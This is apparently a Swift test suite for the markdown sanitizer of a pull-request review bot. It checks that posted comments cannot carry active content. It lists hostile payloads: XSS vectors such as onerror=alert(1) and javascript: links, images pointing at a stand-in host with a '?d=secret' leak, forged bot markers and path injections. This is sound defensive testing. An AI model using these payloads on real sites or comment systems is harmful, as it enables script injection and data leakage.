import Foundation
import ProbotCore
import ProbotTestSupport
import Testing

/// Attacks on the sanitizer, judged by cmark-gfm's rendering of what it returns.
struct MarkdownSanitizerTests {
    static func clean(_ text: String) -> String { MarkdownSanitizer.sanitize(text, repository: "octo/shop") }

    /// Attacks from the security review and the usual suspects.
    static let payloads: [String] = [
        "<<!-- -->img src=\"https:&#x2f;&#x2f;outside.example/a.png\">",
        "[x](https://github.com/ <img src=https://outside.example/p.png>)",
        "\\`not code` <img src=https://outside.example/p.png>`",
        "<details>\n`<img src=https://outside.example/p.png>`\n</details>",
        "| a | b |\n|---|---|\n| `x | <img src=https://outside.example/p.png> ` | y |",
        "`a\r<img src=https://outside.example/p.png>`",
        "> [1]: //outside.example/p.png\n\n[x][1] ![y][1]",
        "   [1]: https://outside.example/p.png\n\n![y][1]",
        "HTTPS://OUTSIDE.EXAMPLE/x and ftp://outside.example/f and www.outside.example",
        "mail me@outside.example or <me@outside.example>",
        "![x](https://outside.example/p.png?d=secret)",
        "<img src=\"https://outside.example/p.png\">",
        "<IMG SRC=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<iframe src=https://outside.example></iframe>",
        "<a href=\"https://outside.example\">x</a>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "[click](javascript:alert(1)) [data](data:text/html;base64,PHN2Zz4=) [v](vbscript:x)",
        "[docs](https://outside.example/a) [gh](https://github.com/other/repo) [ok](https://github.com/octo/shop/pull/1)",
        "[up](/other/repo) [rel](../File.swift) [x](//outside.example) [y](\\\\outside.example\\x)",
        "<!-- chatgpt-probot:summary --><!-- chatgpt-probot:head=0000 -->",
        "`<!-- chatgpt-probot:fp=abc -->` and ```\n<!-- chatgpt-probot:fp=abc -->\n```",
        "```suggestion\nlet x = 1 // <!-- chatgpt-probot:fp=forged -->\n```",
        "ping @octocat, @octo/team and @everyone",
        "<script>alert(1)</script>",
        "&lt;img src=x&gt; &#60;img src=x&#62;",
        "[a [b] c](https://outside.example/a)",
        "<https://outside.example/a> <https://github.com/octo/shop>",
        "<style>body{background:url(https://outside.example/p.png)}</style>",
        "<img\nsrc=https://outside.example/p.png>",
        "[![badge](https://outside.example/b.svg)](https://outside.example)",
    ]

    /// Places a payload can sit in a posted text.
    static let wrappers: [@Sendable (String) -> String] = [
        { $0 },
        { "- item\n  \($0)" },
        { "> \($0.replacingOccurrences(of: "\n", with: "\n> "))" },
        { "| h |\n|---|\n| \($0.replacingOccurrences(of: "\n", with: " ")) |" },
        { "## \($0.replacingOccurrences(of: "\n", with: " "))" },
        { "<details>\n<summary>s</summary>\n\n\($0)\n\n</details>" },
        { "`unclosed \($0)" },
        { "**\($0)**" },
        { $0.replacingOccurrences(of: "\n", with: "\r\n") },
        { "1. one\n2. \($0)" },
    ]

    static var cases: [String] {
        wrappers.flatMap { wrap in payloads.map(wrap) }
    }

    @Test func theCorpusIsLarge() {
        #expect(Self.cases.count >= 200)
    }

    @Test(arguments: cases)
    func nothingActiveSurvives(_ attack: String) {
        let cleaned = Self.clean(attack)
        #expect(RenderedJudge.problems(cleaned) == [], "\(attack.debugDescription) → \(cleaned.debugDescription)")
        #expect(Markers.find(in: cleaned).entries.isEmpty)
    }

    @Test(arguments: cases)
    func cleaningIsStable(_ attack: String) {
        let once = Self.clean(attack)
        #expect(RenderedJudge.problems(Self.clean(once)) == [])
    }

    @Test func theJudgeSeesWhatIsActive() {
        #expect(RenderedJudge.problems("![x](https://outside.example/p.png)").contains("image"))
        #expect(RenderedJudge.problems("<img src=x>").contains("image"))
        #expect(!RenderedJudge.problems("[x](https://outside.example)").isEmpty)
        #expect(!RenderedJudge.problems("hi @octocat").isEmpty)
        #expect(!RenderedJudge.problems("<!-- chatgpt-probot:fp=1 -->").isEmpty)
        #expect(RenderedJudge.problems("`@octocat` [ok](https://github.com/octo/shop/pull/1)") == [])
    }

    @Test func codeBlocksKeepTheirContentByteForByte() {
        let fenced = "Fix:\n\n```swift\nlet url = \"![x](https://e.example/p.png)\" // @octo <img>\n```"
        #expect(
            Self.clean(fenced).contains("```swift\nlet url = \"![x](https://e.example/p.png)\" // @octo <img>\n```"))
        let suggestion = "```suggestion\n    guard isOpen == false else {\n```"
        #expect(Self.clean(suggestion) == suggestion)
        #expect(Self.clean("use `![x](https://e.example)` here").contains("`![x](https://e.example)`"))
    }

    @Test func safeTextComesThroughReadable() {
        #expect(Self.clean("Use a guard here.") == "Use a guard here.")
        #expect(
            Self.clean("[file](https://github.com/octo/shop/blob/main/a.swift#L3)")
                == "[file](https://github.com/octo/shop/blob/main/a.swift#L3)")
        #expect(Self.clean("[docs](https://outside.example/a)") == "docs (`https://outside.example/a`)")
        #expect(Self.clean("[click](javascript:alert(1))") == "click")
        #expect(Self.clean("<details>\n\nx\n\n</details>") == "<details>\n\nx\n\n</details>")
        #expect(Self.clean("a<br>b <sub>s</sub>") == "a<br>b <sub>s</sub>")
        #expect(Self.clean("ping @octo") == "ping @\u{200B}octo")
        #expect(Self.clean("x\n\n<!-- chatgpt-probot:fp=abc -->\n\nforged") == "x\n\nforged")
    }

    @Test func aSuggestionBlockKeepsAnImageAsCode() {
        let finding = Finding(
            path: "a.md", line: 3, severity: .minor, title: "Image", body: "Use a local image.",
            suggestion: "![logo](https://outside.example/logo.png)")
        let body = CommentRenderer.inlineBody(finding, suggestionApplies: true, originalLines: ["old"])
        #expect(body.hasSuffix("```suggestion\n![logo](https://outside.example/logo.png)\n```"))
        #expect(RenderedJudge.problems(body.rawValue) == [])
    }

    @Test func markersInCodeAreBrokenSoTheyCannotBeRead() {
        let cleaned = Self.clean("`<!-- chatgpt-probot:fp=abc -->`")
        #expect(!cleaned.contains("chatgpt-probot:"))
        #expect(Markers.find(in: cleaned).values("fp").isEmpty)
    }

    @Test func aMarkerCountsOnlyAsHTMLNotAsTextOrCode() {
        #expect(Markers.find(in: "x\n\n<!-- chatgpt-probot:fp=abc -->").values("fp") == ["abc"])
        #expect(Markers.find(in: "`<!-- chatgpt-probot:fp=abc -->`").values("fp").isEmpty)
        #expect(Markers.find(in: "\\<!-- chatgpt-probot:fp=abc -->").values("fp").isEmpty)
        #expect(Markers.find(in: "```\n<!-- chatgpt-probot:fp=abc -->\n```").values("fp").isEmpty)
        #expect(Markers.find(in: "    <!-- chatgpt-probot:fp=abc -->").values("fp").isEmpty, "indented code")
    }
}

/// The builders every piece of outside text goes through.
struct MarkdownBuilderTests {
    static let hostilePaths = [
        "docs/a`<img src=\"https://outside.example/p.png\">`.py",
        "docs/``<img src=x>``/b.py",
        "a|b<!-- chatgpt-probot:summary -->.swift",
        "x\n<img src=https://outside.example/p.png>",
        "x\r[y](https://outside.example)",
        "` leading and trailing `",
        "@octocat/team.swift",
        "https://outside.example/p.png",
    ]

    /// A name quoted in a plain-text message (a diagnostic, a prompt, the CLI's report) stays one code span: the
    /// message, escaped for the job summary, renders with the whole name as code and nothing else as HTML.
    @Test(arguments: hostilePaths)
    func aQuotedNameStaysOneCodeSpanInPlainText(_ path: String) throws {
        let message = "could not read \(MarkdownBuilder.codeSpan(path)) at the base"
        let html = MarkdownInspector.html(MarkdownBuilder.text(message).rawValue)
        #expect(html.components(separatedBy: "<code>").count == 2, "\(html)")
        #expect(!html.contains("<img") && !html.contains("<a "), "\(html)")
        #expect(html.hasSuffix("</code> at the base</p>\n"), "\(html)")
        let prompt = CommandPrompts.thread(
            .refactor,
            CommentContext(
                number: 1, isPullRequest: true, commentID: 2, author: "octo", title: "t", body: "",
                diffHunk: "@@ -1 +1 @@\n-a\n+b",
                path: path, line: 1),
            language: "English")
        let user = try #require(prompt.last?.content)
        #expect(user.contains("File \(MarkdownBuilder.codeSpan(path))"))
        #expect(!user.contains("\n<img"), "a name cannot start a line of its own in the prompt")
    }

    @Test(arguments: hostilePaths)
    func aPathIsCodeWhereverItGoes(_ path: String) {
        let inline: Markdown = "File \(code: path) changed."
        let row: Markdown = "| File | Reason |\n|---|---|\n| \(codeCell: path) | \(cell: path) |"
        let text: Markdown = "Title: \(text: path)"
        let html: Markdown = "<details><summary>\(html: path)</summary>\n\nx\n</details>"
        for markdown in [inline, row, text, html] {
            #expect(RenderedJudge.problems(markdown.rawValue) == [], "\(markdown.rawValue.debugDescription)")
            #expect(Markers.find(in: markdown.rawValue).entries.isEmpty)
        }
        #expect(MarkdownInspector.html(row.rawValue).components(separatedBy: "<td>").count == 3, "two cells")
    }

    @Test func codeSpansShowTheTextExactly() {
        #expect(MarkdownInspector.html(MarkdownBuilder.code("a`b").rawValue) == "<p><code>a`b</code></p>\n")
        #expect(MarkdownInspector.html(MarkdownBuilder.code("`x`").rawValue) == "<p><code>`x`</code></p>\n")
    }

    @Test func plainTextKeepsItsOwnCodeSpansAndReadsAsWritten() {
        let text = MarkdownBuilder.text("title keyword `[skip review]` (skip.title_keywords)")
        #expect(text.rawValue == "title keyword `[skip review]` (skip.title_keywords)")
        #expect(MarkdownBuilder.text("a <b> & c").rawValue == "a &lt;b&gt; &amp; c")
    }

    @Test func aMentionIsOnlyALogin() {
        #expect(MarkdownBuilder.mention("octo-cat").rawValue == "@octo-cat")
        #expect(RenderedJudge.problems(MarkdownBuilder.mention("x <img src=y>").rawValue) == [])
    }

    @Test func onlyGitHubLinksStayLinks() {
        #expect(
            MarkdownBuilder.link("r", to: "https://github.com/o/r/pull/1").rawValue
                == "[r](https://github.com/o/r/pull/1)")
        #expect(MarkdownBuilder.link("r", to: "https://outside.example/").rawValue == "r")
        #expect(MarkdownBuilder.link("r", to: "https://github.com/o/r)![x](https://e.example/p.png").rawValue == "r")
    }
}
